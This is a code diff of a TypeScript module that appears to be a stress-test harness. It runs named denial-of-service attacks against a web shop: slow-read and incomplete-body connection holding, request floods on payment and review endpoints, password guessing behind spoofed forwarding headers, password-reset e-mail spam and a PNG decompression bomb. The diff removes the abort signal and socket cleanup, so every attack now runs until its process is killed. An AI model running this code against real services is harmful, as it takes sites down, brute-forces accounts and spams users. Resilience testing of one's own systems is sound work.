@@ -30,7 +30,8 @@ interface Attempt {
   body?: string | Uint8Array;
 }
 
-type Attack = (target: Target, signal: AbortSignal) => Promise<void>;
+/** Goes on until its process is ended. */
+type Attack = (target: Target) => Promise<void>;
 
 /** Bytes that an attack sends in a second, at most. */
 const LINE = 10_000_000;
@@ -49,7 +50,6 @@ function createLine() {
 /** Sends requests one after the other on each of `connections`. Responses are read and forgotten. */
 async function flood(
   { port }: Target,
-  signal: AbortSignal,
   connections: number,
   next: (turn: number) => Attempt,
 ): Promise<void> {
@@ -57,7 +57,7 @@ async function flood(
   const room = createLine();
   let turn = 0;
   const sender = async () => {
-    while (!signal.aborted) {
+    for (;;) {
       const { method = 'POST', path, headers = {}, body = '' } = next(turn);
       turn += 1;
       await room(body.length + 300);
@@ -69,19 +69,17 @@ async function flood(
     }
   };
   await Promise.all(Array.from({ length: connections }, sender));
-  agent.destroy();
 }
 
 /** Keeps `count` connections open, on each of which `bytes` are sent and nothing is read. */
 async function hold(
   { port }: Target,
-  signal: AbortSignal,
   count: number,
   bytes: (turn: number) => Uint8Array,
 ): Promise<void> {
   const sockets = new Set<Socket>();
   const room = createLine();
-  for (let turn = 0; !signal.aborted; turn += 1) {
+  for (let turn = 0; ; turn += 1) {
     if (sockets.size >= count) {
       await pause(5);
       continue;
@@ -93,7 +91,6 @@ async function hold(
     sockets.add(socket);
     socket.write(content);
   }
-  for (const socket of sockets) socket.destroy();
 }
 
 const head = (lines: readonly string[]) =>
@@ -135,19 +132,19 @@ function order({ email }: Account, lines: number, couponCode?: string): string {
 /** By the name that the command line has for it. */
 export const attacks = {
   /** Two hundred connections with a thousand requests of a picture each, none of which is read. */
-  pipelined: (target, signal) => {
+  pipelined: (target) => {
     const one = head([`GET ${target.picture} HTTP/1.1`]);
     const content = Buffer.concat(Array.from({ length: 1_000 }, () => one));
-    return hold(target, signal, 200, () => content);
+    return hold(target, 200, () => content);
   },
   /** A picture each for 2,500 who do not read it. */
-  readers: (target, signal) => {
+  readers: (target) => {
     const content = (turn: number) =>
       head([`GET ${target.picture} HTTP/1.1`, `X-Forwarded-For: ${household(turn)}`]);
-    return hold(target, signal, 2_500, content);
+    return hold(target, 2_500, content);
   },
   /** Three thousand webhooks that lack their last byte. */
-  bodies: (target, signal) => {
+  bodies: (target) => {
     const size = 249_000;
     const body = Buffer.alloc(size - 1, ' ');
     const content = (turn: number) =>
@@ -160,14 +157,14 @@ export const attacks = {
         ]),
         body,
       ]);
-    return hold(target, signal, 3_000, content);
+    return hold(target, 3_000, content);
   },
   /** Sixty review forms of a hundred long texts that do not end. */
-  forms: (target, signal) => {
+  forms: (target) => {
     const text = 'x'.repeat(60_000);
     const texts = Object.fromEntries(Array.from({ length: 98 }, (_, at) => [`text${at}`, text]));
     const { type, body } = form(texts, Buffer.alloc(100));
-    return hold(target, signal, 60, (turn) => {
+    return hold(target, 60, (turn) => {
       const { cookie, address } = pick(target.accounts, turn);
       const lines = [
         'POST /reviews HTTP/1.1',
@@ -180,22 +177,22 @@ export const attacks = {
     });
   },
   /** Writes to paths that do not exist, from the shoppers' own addresses. */
-  paths: (target, signal) =>
-    flood(target, signal, 50, (turn) => ({
+  paths: (target) =>
+    flood(target, 50, (turn) => ({
       path: `/payments/no-such-${turn}`,
       headers: { ...json, 'x-forwarded-for': pick(target.addresses, turn) },
       body: '{}',
     })),
   /** Invalid coupons, from the shoppers' own addresses. */
-  coupons: (target, signal) =>
-    flood(target, signal, 20, (turn) => {
+  coupons: (target) =>
+    flood(target, 20, (turn) => {
       const account = pick(target.accounts, turn);
       const headers = { ...json, ...as(account), 'x-forwarded-for': pick(target.addresses, turn) };
       return { path: '/payments/orders', headers, body: order(account, 1, `NO${turn}`) };
     }),
   /** Guesses of a password from the households of one network. */
-  guesses: (target, signal) =>
-    flood(target, signal, 60, (turn) => ({
+  guesses: (target) =>
+    flood(target, 60, (turn) => ({
       path: '/api/auth/sign-in/email',
       headers: { ...json, 'x-forwarded-for': household(turn) },
       body: JSON.stringify({
@@ -204,35 +201,35 @@ export const attacks = {
       }),
     })),
   /** Votes with long ids of reviews. */
-  ids: (target, signal) =>
-    flood(target, signal, 20, (turn) => ({
+  ids: (target) =>
+    flood(target, 20, (turn) => ({
       path: `/reviews/${turn}${'x'.repeat(12_000)}/helpful`,
       headers: { 'x-forwarded-for': household(turn) },
     })),
   /** E-mails with a link to addresses that have no account, or a foreign one. */
-  links: (target, signal) =>
-    flood(target, signal, 20, (turn) => ({
+  links: (target) =>
+    flood(target, 20, (turn) => ({
       path: '/api/auth/request-password-reset',
       headers: { ...json, 'x-forwarded-for': household(turn) },
       body: JSON.stringify({ email: pick(target.accounts, turn).email, redirectTo: '/' }),
     })),
   /** Ten pictures of few bytes and 24,000,000 points at a time, from one account. */
-  bombs: (target, signal) => {
+  bombs: (target) => {
     const bomb = bombPng({ width: 1, height: 24_000_000 });
     const { type, body } = form(review, bomb);
     const headers = { ...as(pick(target.accounts, 0)), 'content-type': type };
-    return flood(target, signal, 10, () => ({ path: '/reviews', headers, body }));
+    return flood(target, 10, () => ({ path: '/reviews', headers, body }));
   },
   /** Orders of eight hundred lines that are never paid. */
-  carts: (target, signal) =>
-    flood(target, signal, 10, (turn) => {
+  carts: (target) =>
+    flood(target, 10, (turn) => {
       const account = pick(target.accounts, turn);
       const headers = { ...json, ...as(account), 'idempotency-key': `cart-${turn}` };
       return { path: '/payments/orders', headers, body: order(account, 800) };
     }),
   /** Whole lists and searches of reviews. */
-  lists: (target, signal) =>
-    flood(target, signal, 20, (turn) => ({
+  lists: (target) =>
+    flood(target, 20, (turn) => ({
       method: 'GET',
       path: turn % 2 === 0 ? '/reviews' : `/reviews?page=1&q=bride${turn}`,
       headers: { 'x-forwarded-for': household(turn) },
@@ -250,5 +247,5 @@ if (process.send && import.meta.main) {
   const [{ name, target }] = (await once(process, 'message')) as [Assault];
   process.send('begun');
   process.once('disconnect', () => process.exit());
-  await attacks[name](target, new AbortController().signal);
+  await attacks[name](target);
 }
